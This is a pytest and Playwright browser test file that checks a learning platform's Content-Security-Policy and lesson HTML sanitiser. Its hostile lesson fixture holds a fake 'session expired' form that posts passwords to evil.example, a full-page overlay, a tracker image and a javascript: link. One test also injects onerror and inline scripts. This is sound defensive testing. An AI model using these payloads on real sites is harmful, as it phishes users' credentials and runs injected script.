"""The Content-Security-Policy in the real browser, and the lesson HTML allow-list (issue 13, finding 8).

The gateway sends a strict policy (our own script and style only, no plugins, never framed, images
and media from our origin, data: and the presigned storage). These tests check, in Chromium against
the real stack, that the web client works under it with no violation at all, that a trainer's lesson
with a form, an input, inline styles and remote images is rendered without them (so the policy has
nothing to refuse), and that the policy does refuse what the sanitiser would let through by mistake.
"""

from __future__ import annotations

from typing import Any

import httpx
import pytest

from tests.browser.csp_support import settled, watch_csp
from tests.browser.support import Api, screenshot, uid, wait_until

# A 1x1 transparent PNG.
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
HOSTILE_LESSON = f"""# Reading under the policy

Residents **propose** and vote.

<form action="https://evil.example/steal" method="post">
<p>Your session expired. Type your password again:</p>
<input name="password" type="password" placeholder="Password">
<button type="submit">Sign in again</button>
</form>

<p style="position:fixed;inset:0;background:#c00;color:#fff;font-size:4rem" class="alert" id="app">Overlay text</p>

<img src="https://remote-images.example/tracker.png" alt="tracker">

<img src="//remote-images.example/protocol-relative.png">

![a budget chart]({PIXEL})

<a href="javascript:alert(1)">a script link</a> and <a href="https://un-habitat.example/budgets">a real link</a>.

<svg><a href="https://evil.example"><text>svg</text></a></svg>

- [x] a task list item
"""


@pytest.fixture(scope="module")
def hostile_course(api: Any) -> tuple[str, str]:
    """A published course whose one lesson is HOSTILE_LESSON, the learner enrolled."""
    trainer: Api = api("trainer")
    learner: Api = api("learner")
    course = trainer.q(
        """mutation($i: CreateCourseInput!) { createCourse(input: $i) { id } }""",
        i={
            "slug": uid("csp"),
            "titles": [{"lang": "en", "text": f"Lesson HTML under CSP {uid('t')}"}],
            "summaries": [{"lang": "en", "text": "A lesson written to test the sanitiser."}],
            "defaultLanguage": "en",
            "topics": ["participatory-budgeting"],
        },
    )["createCourse"]
    module = trainer.q(
        """mutation($c: ID!, $i: ModuleInput!) { addModule(courseId: $c, input: $i) { id } }""",
        c=course["id"],
        i={"titles": [{"lang": "en", "text": "Introduction"}]},
    )["addModule"]
    lesson = trainer.q(
        """mutation($m: ID!, $i: LessonInput!) { addLesson(moduleId: $m, input: $i) { id } }""",
        m=module["id"],
        i={
            "kind": "TEXT",
            "titles": [{"lang": "en", "text": "What is a participatory budget?"}],
            "bodies": [{"lang": "en", "text": HOSTILE_LESSON}],
            "durationMinutes": 10,
        },
    )["addLesson"]
    trainer.q("""mutation($id: ID!) { publishCourse(id: $id) { version } }""", id=course["id"])
    # Progress learns about the course from course.published; enrolment succeeds once it has.
    wait_until(lambda: _enrol(learner, course["id"]), timeout=30, interval=1)
    return course["id"], lesson["id"]


def _enrol(learner: Api, course_id: str) -> bool:
    try:
        learner.q("""mutation($c: ID!) { enroll(courseId: $c) { id } }""", c=course_id)
    except AssertionError as exc:
        return "already" in str(exc).lower()
    return True


def test_the_gateway_sends_the_policy_and_the_services_nosniff(gateway_url: str, stack_env: dict[str, str]) -> None:
    page = httpx.get(f"{gateway_url}/courses/anything", timeout=10)
    graphql = httpx.post(f"{gateway_url}/graphql", json={"query": "{ __typename }"}, timeout=10)
    for r in (page, graphql):
        policy = r.headers["content-security-policy"]
        for directive in ("script-src 'self'", "object-src 'none'", "frame-ancestors 'none'", "base-uri 'none'"):
            assert directive in policy, (r.url, policy)
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["referrer-policy"] == "same-origin"
    for service in ("COURSES", "PROGRESS", "CERTIFICATES"):
        r = httpx.get(f"{stack_env[f'LMS_{service}_URL']}/healthz", timeout=10)
        assert r.headers["x-content-type-options"] == "nosniff", service


def test_a_hostile_lesson_is_rendered_without_forms_styles_or_remote_images(
    open_page: Any, hostile_course: tuple[str, str]
) -> None:
    course_id, lesson_id = hostile_course
    page = open_page("learner")
    violations = watch_csp(page.context)
    elsewhere: list[str] = []
    page.on("request", lambda r: elsewhere.append(r.url) if "example" in r.url else None)
    page.goto(f"/courses/{course_id}/lessons/{lesson_id}")
    page.get_by_role("heading", level=1, name="What is a participatory budget?").wait_for()
    prose = page.locator(".prose")
    prose.get_by_text("Overlay text").wait_for()
    screenshot(page, "csp-01-hostile-lesson")

    # The trainer's words stay; the form, its controls, styles and borrowed classes or ids do not.
    assert prose.locator("strong").inner_text() == "propose"
    assert "Your session expired" in prose.inner_text()
    for selector in ("form", "input", "button", "[style]", "[class]", "[id]", "svg", "script"):
        assert prose.locator(selector).count() == 0, selector
    # Images: the inline one only; remote ones leave their alternative text.
    assert prose.locator("img").evaluate_all("els => els.map(e => e.getAttribute('src'))") == [PIXEL]
    assert "[tracker]" in prose.inner_text()
    # Links: no javascript:, and a link to elsewhere gives away neither the page nor the window.
    assert prose.get_by_text("a script link").get_attribute("href") is None
    real = prose.get_by_role("link", name="a real link")
    assert real.get_attribute("href") == "https://un-habitat.example/budgets"
    assert "noopener" in (real.get_attribute("rel") or "")
    assert page.evaluate("getComputedStyle(document.querySelector('.prose p:last-of-type')).position") != "fixed"

    assert elsewhere == [], "the lesson made the browser fetch from another site"
    assert settled(page, violations) == [], violations
    assert not page.js_errors, page.js_errors


def test_the_policy_refuses_what_a_sanitiser_slip_would_let_through(open_page: Any, stack_env: dict[str, str]) -> None:
    """Defence in depth: markup injected past the sanitiser is still refused by the browser."""
    page = open_page(None)
    violations = watch_csp(page.context)
    page.goto("/verify")
    page.get_by_role("heading", level=1).wait_for()
    assert settled(page, violations) == []
    page.evaluate(
        """() => {
        document.body.insertAdjacentHTML('beforeend',
          '<img src="https://remote-images.example/slip.png" alt="">' +
          '<div style="position:fixed;inset:0">overlay</div>' +
          '<img src="x" onerror="window.__ran = true">');
        const s = document.createElement('script');
        s.textContent = 'window.__inline = true';
        document.body.append(s);
    }"""
    )
    expected = {"img-src", "style-src-attr", "script-src-elem", "script-src-attr"}
    try:
        wait_until(lambda: expected <= {v.get("directive") for v in settled(page, violations)}, timeout=10)
    except AssertionError:
        pytest.fail(f"the policy did not refuse all of {sorted(expected)}: {violations}")
    assert page.evaluate("window.__inline") is None and page.evaluate("window.__ran") is None
    assert page.evaluate("getComputedStyle(document.body.lastElementChild.previousElementSibling).position") != "fixed"


def test_the_web_client_works_under_the_policy_with_no_violation(
    open_page: Any, api: Any, stack_env: dict[str, str], hostile_course: tuple[str, str]
) -> None:
    """Every kind of page, signed in as each role, plus the WebSocket and the presigned storage."""
    course_id, _ = hostile_course
    walks = {
        None: ["/", f"/courses/{course_id}", "/verify", "/signin"],
        "learner": ["/learning", "/certificates", f"/courses/{course_id}"],
        "trainer": ["/teach", "/teach/new"],
        "admin": ["/admin/bulk", "/admin/certificates", "/admin/reports"],
    }
    storage = f"http://{stack_env.get('LMS_S3_PUBLIC_ENDPOINT') or stack_env['LMS_S3_ENDPOINT']}"
    for who, paths in walks.items():
        page = open_page(who)
        violations = watch_csp(page.context)
        for path in paths:
            page.goto(path)
            page.get_by_role("heading", level=1).first.wait_for()
            page.wait_for_load_state("networkidle")
            assert settled(page, violations) == [], (who, path, violations)
        screenshot(page, f"csp-02-{who or 'anonymous'}")
        assert not page.js_errors, (who, page.js_errors)

    # What the client opens from script: the GraphQL WebSocket and presigned storage URLs (uploads).
    page = open_page("learner")
    violations = watch_csp(page.context)
    page.goto("/learning")
    page.get_by_role("heading", level=1).wait_for()
    opened = page.evaluate(
        """async (storage) => {
        const ws = await new Promise((resolve) => {
            const s = new WebSocket(`ws://${location.host}/graphql`, 'graphql-transport-ws');
            s.onopen = () => { s.close(); resolve(true); };
            s.onerror = () => resolve(false);
        });
        let stored = true;
        try { await fetch(`${storage}/`, { mode: 'no-cors' }); } catch (e) { stored = String(e); }
        return { ws, stored };
    }""",
        storage,
    )
    assert opened == {"ws": True, "stored": True}, opened
    assert settled(page, violations) == [], violations
